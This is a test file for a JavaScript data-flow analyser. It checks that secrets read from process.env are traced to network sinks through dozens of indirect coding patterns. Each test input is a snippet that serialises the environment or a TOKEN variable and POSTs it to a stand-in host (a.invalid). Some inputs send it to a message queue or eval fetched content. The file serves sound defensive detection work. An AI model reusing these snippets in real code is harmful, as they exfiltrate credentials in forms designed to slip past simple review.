import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { flowLines } from '../../test/behave.ts';

const SENT = 'process.env → fetch as content';

/** What every case begins with: something that is read, and a way to send it. */
const PRELUDE = `const read = () => JSON.stringify(process.env); const send = x => fetch('https://a.invalid', { method: 'POST', body: x });`;

/** Ways by which code hands on data, each in one file. */
const CARRIERS: Readonly<Record<string, string>> = {
  'objects that are handed to the one that uses them': `
    class Env { read() { return read(); } } class Sink { send(x) { send(x); } }
    class App { constructor(env, sink) { this.env = env; this.sink = sink; } run() { this.sink.send(this.env.read()); } }
    new App(new Env(), new Sink()).run();`,
  'the same in an object of settings': `
    class Env { read() { return read(); } } class Sink { send(x) { send(x); } }
    class App { constructor({ env, sink }) { this.env = env; this.sink = sink; } run() { this.sink.send(this.env.read()); } }
    new App({ env: new Env(), sink: new Sink() }).run();`,
  'a container of what makes things': `
    class Box { constructor() { this.made = {}; this.makers = {}; } put(k, f) { this.makers[k] = f; } get(k) { return this.made[k] || (this.made[k] = this.makers[k](this)); } }
    const box = new Box(); box.put('env', () => read()); box.put('send', () => x => send(x)); box.get('send')(box.get('env'));`,
  'functions that are put into a table one by one': `const layers = {}; layers.a = () => 1; layers.m = () => read(); send(Object.values(layers).map(layer => layer()));`,
  'the same, in a table without a prototype, taken together': `
    const layers = Object.create(null); layers.a = () => ({}); layers.m = () => ({ m: read() }); send(Object.values(layers).reduce((all, layer) => ({ ...all, ...layer() }), {}).m);`,
  'what an object says of itself as a text': `class R { constructor(s) { this.s = s; } toString() { return JSON.stringify(this.s); } go() { send(\`\${this}\`); } } new R(read()).go();`,
  'the same by the symbol for it': `class R { constructor(s) { this.s = s; } [Symbol.toPrimitive]() { return JSON.stringify(this.s); } go() { const said = \`\${this}\`; send(said); } } new R(read()).go();`,
  'an address in a field that it is added to': `class R { constructor() { this.at = new URL('/x', 'https://a.invalid'); } go(v) { this.at.searchParams.set('s', v); send('' + this.at); } } new R().go(read());`,
  'functions of a map': `const steps = new Map([['a', () => read()]]); for (const [, step] of steps) send(step());`,
  'functions that are put into a map': `const steps = new Map(); steps.set('a', () => read()); const all = []; steps.forEach(step => all.push(step())); send(all);`,
  'the values of a map': `const steps = new Map(); steps.set('a', () => read()); for (const step of steps.values()) send(step());`,
  'listeners that are kept by name': `
    const heard = {}; const on = (k, f) => { (heard[k] = heard[k] || []).push(f); }; const tell = (k, v) => { (heard[k] || []).forEach(f => f(v)); };
    on('x', v => send(v)); tell('x', read());`,
  'listeners in a private set': `
    class Bus { #all = new Set(); sub(f) { this.#all.add(f); } pub(v) { this.#all.forEach(f => f(v)); } }
    const bus = new Bus(); bus.sub(v => send(v)); bus.pub(read());`,
  'a chain of steps that call the next one': `
    const steps = []; const use = f => steps.push(f); use((c, next) => { c.data = read(); next(); }); use(c => { send(c.data); });
    const run = c => { let at = 0; const next = () => { const step = steps[at++]; step && step(c, next); }; next(); }; run({});`,
  'steps that are composed': `
    const compose = steps => c => { const go = at => { const step = steps[at]; return step ? step(c, () => go(at + 1)) : 0; }; return go(0); };
    compose([(c, next) => { c.data = read(); next(); }, c => { send(c.data); }])({});`,
  'a list of steps that is counted through': `const steps = [() => read(), x => send(x)]; let v, at = 0; while (at < steps.length) { v = steps[at](v); at++; }`,
  'plugins that are registered': `
    const plugins = []; const register = p => plugins.push(p); register({ name: 'x', apply(c) { send(c.data); } });
    plugins.forEach(p => p.apply({ data: read() }));`,
  'a list of its own where none is given': `
    const quiet = () => ({ go() {} }), loud = () => ({ go(x) { send(x); } }); const run = ({ list } = {}) => { const all = list || [quiet(), loud()]; for (const one of all) one.go(read()); }; run();`,
  'a variable of the environment that the code sets': `process.env.NOTE = read(); send(process.env.NOTE);`,
  'one of two functions of the file': `const quiet = x => x; const out = process.argv[2] ? quiet : send; out(read());`,
  'a function that another takes the place of': `let out = x => x; if (process.argv[2]) out = x => send(x); out(read());`,
  'what a cache gives or makes': `
    const kept = new Map(); class Env { read() { return read(); } } const get = k => { if (kept.has(k)) return kept.get(k); const made = new Env(); kept.set(k, made); return made; };
    const use = env => send(env.read()); use(get('a'));`,
  'what a cache gives, or else is made': `const kept = new Map(); class Env { read() { return read(); } } const env = kept.get('a') || new Env(); send(env.read());`,
  'bytes that are copied into a field': `const kept = { bytes: Buffer.alloc(99) }; Buffer.from(read()).copy(kept.bytes, 4); send(kept.bytes.toString());`,
  'a member that is set by reflection': `const kept = {}; Reflect.set(kept, 'x', read()); send(kept.x);`,
  'an object that a function is handed to put it into': `const kept = {}; const add = (to, more) => Object.assign(to, more); add(kept, { x: read() }); send(kept.x);`,
  'a storage of what runs': `const { AsyncLocalStorage } = require('async_hooks'); const kept = new AsyncLocalStorage(); kept.run({ x: read() }, () => send(kept.getStore().x));`,
  'an event of a target': `const target = new EventTarget(); target.addEventListener('x', e => send(e.detail)); target.dispatchEvent(new CustomEvent('x', { detail: read() }));`,
  'a promise whose resolver is kept under a name': `let done; const sent = new Promise(resolve => { done = resolve; }); sent.then(x => send(x)); done(read());`,
  'a promise whose resolver is kept in an object': `class Later { constructor() { this.promise = new Promise((resolve, reject) => { this.resolve = resolve; this.reject = reject; }); } }
    const later = new Later(); later.promise.then(x => send(x)); later.resolve(read());`,
  'a promise whose resolver is kept in an object of a class below': `const later = new Later(); later.promise.then(x => send(x)); later.resolve(read());
    class Later { constructor() { this.promise = new Promise(resolve => { this.resolve = resolve; }); } }`,
  'a promise that is resolved from outside': `const { promise, resolve } = Promise.withResolvers(); promise.then(x => send(x)); resolve(read());`,
  'a promise inside of whose function another is resolved by the same name': `
    function go() { const { promise: sent, resolve } = Promise.withResolvers(); sent.then(x => send(x));
      const wait = () => { const { promise: kept, resolve } = Promise.withResolvers(); resolve(1); return kept; }; wait(); resolve(read()); } go();`,
  'the same, kept as one': `const given = Promise.withResolvers(); given.promise.then(x => send(x)); given.resolve(read());`,
  'what is given for each of a list that is not known': `exports.go = names => send(names.map(name => read()));`,
  'the same by what makes lists': `exports.go = names => send(Array.from(names, name => read()));`,
  'the same in pairs': `exports.go = async names => send(Object.fromEntries(await Promise.all(names.map(async name => [name, read()]))));`,
  'taps of a hook': `
    class Hook { constructor() { this.taps = []; } tap(name, run) { this.taps.push({ name, run }); } call(x) { for (const { run } of this.taps) run(x); } }
    const hook = new Hook(); hook.tap('a', x => send(x)); hook.call(read());`,
  'a member of the object that a method is of': `const job = { run() { send(this.data); }, data: read() }; job.run();`,
  'a member that such an object is given later': `const job = { run() { send(this.data); } }; job.data = read(); job.run();`,
  'a method of an object that is bound': `const job = { run() { send(this.data); }, data: read() }; setTimeout(job.run.bind(job), 1);`,
  'an argument that is bound': `function go(x) { send(x); } setTimeout(go.bind(null, read()), 1);`,
  'an argument that is bound to a function without a name': `queueMicrotask((x => send(x)).bind(null, read()));`,
  'an argument that the program starts itself with': `
    const cp = require('child_process'); if (process.argv[2]) send(process.argv[2]); else cp.spawn(process.execPath, [__filename, process.env.TOKEN]);`,
  'classes that a module of a bundle offers by name': `
    load({ 1: [function (require, module, exports) { class Sink { constructor(x) { this.x = x; } go() { send(this.x); } } exports.Sink = Sink; }, {}],
      2: [function (require, module, exports) { const s = require('./s'); new s.Sink(read()).go(); }, { './s': 1 }] });`,
};

describe('data on its way through code', () => {
  for (const [how, code] of Object.entries(CARRIERS))
    it(`is followed through ${how}`, () => {
      assert.ok(flowLines({ 'index.js': `${PRELUDE}\n${code}` }).some(line => /process\.env(\.TOKEN)? → fetch as content/.test(line)));
    });

  it('is followed through promises that hand on what they open', () => {
    const code = `require('amqplib').connect('amqp://a.invalid').then(c => c.createChannel()).then(ch => ch.sendToQueue('q', process.env.TOKEN));`;
    assert.deepEqual(flowLines({ 'index.js': code }), ['process.env.TOKEN → amqplib.connect().createChannel().sendToQueue as content']);
  });

  it('is not what stands in a file of which only the name is known', () => {
    const code = `const fs = require('fs'); fetch('https://a.invalid/x').then(r => r.text()).then(name => eval(fs.readFileSync(name, 'utf8')));`;
    const lines = flowLines({ 'index.js': code });
    assert.ok(lines.includes('fs.readFileSync → eval as content'));
    assert.ok(!lines.some(line => line.startsWith('fetch') && line.includes('→ eval')));
  });

  it('does not come out of a list of another name', () => {
    const code = `${PRELUDE} const mine = [], others = []; mine.push(x => send(x)); others.push(x => x); others.forEach(f => f(read()));`;
    assert.ok(!flowLines({ 'index.js': code }).includes(SENT));
  });

  it('does not come out of a promise that something else resolves', () => {
    const code = `${PRELUDE} const { promise, resolve } = Promise.withResolvers(); const other = Promise.withResolvers(); other.resolve(read()); promise.then(x => send(x)); resolve(1);`;
    assert.ok(!flowLines({ 'index.js': code }).includes(SENT));
  });

  it('does not come out of a promise whose name means something else where it is called', () => {
    const code = `${PRELUDE} const { promise, resolve } = Promise.withResolvers(); promise.then(x => send(x)); resolve(1); function keep(resolve) { resolve(read()); } keep(x => x);`;
    assert.ok(!flowLines({ 'index.js': code }).includes(SENT));
  });

  it('is not all that a proxy could give, where one member is asked for', () => {
    const code = `${PRELUDE} const env = new Proxy({}, { get: (_, name) => process.env[name] }); send(env.CI);`;
    assert.ok(!flowLines({ 'index.js': code }).includes(SENT));
  });

  it('does not come to who listens to another event', () => {
    const code = `${PRELUDE} const target = new EventTarget(); target.addEventListener('x', e => send(e.detail)); target.dispatchEvent(new CustomEvent('y', { detail: read() }));`;
    assert.ok(!flowLines({ 'index.js': code }).includes(SENT));
  });

  it('does not stay where an argument is bound before it', () => {
    const code = `${PRELUDE} const go = (fixed, data) => send(fixed); setTimeout(go.bind(null, 'x'), 1, read());`;
    assert.ok(!flowLines({ 'index.js': code }).includes(SENT));
  });
});
